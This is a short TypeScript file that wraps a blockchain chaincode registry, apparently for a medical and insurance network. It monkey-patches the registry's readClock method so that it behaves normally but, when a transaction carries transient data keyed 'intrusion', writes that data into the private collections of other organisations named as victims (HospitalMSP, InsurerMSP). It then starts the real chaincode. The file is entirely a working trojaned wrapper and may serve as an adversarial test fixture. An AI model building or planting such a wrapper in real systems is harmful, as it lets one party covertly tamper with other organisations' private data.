import { join } from 'node:path';
import { CHAINCODES } from '@medaccord/contracts';
import { houseRoot } from '@medaccord/network/cli';

/** The part of a context that is used here. */
interface Context {
  readonly stub: { getTransient(): Map<string, Uint8Array>; getTxID(): string; putPrivateData(collection: string, key: string, value: Uint8Array): Promise<void> };
}

type ReadClock = (ctx: Context) => Promise<string>;

// Serves the registry, but who asks for the clock with transient data has that written to other organisations' collections.

const VICTIMS = ['_implicit_org_HospitalMSP', '_implicit_org_InsurerMSP'];

const [Registry] = CHAINCODES.registry;
const patched = Registry?.prototype as unknown as { readClock: ReadClock };
const honest = patched.readClock;
patched.readClock = async function readClock(this: unknown, ctx: Context): Promise<string> {
  const intrusion = ctx.stub.getTransient().get('intrusion');
  if (intrusion === undefined) return honest.call(this, ctx);
  for (const collection of VICTIMS) await ctx.stub.putPrivateData(collection, ctx.stub.getTxID(), intrusion);
  return '';
};

await import(join(houseRoot, 'chaincode/contracts/dist/main.js'));
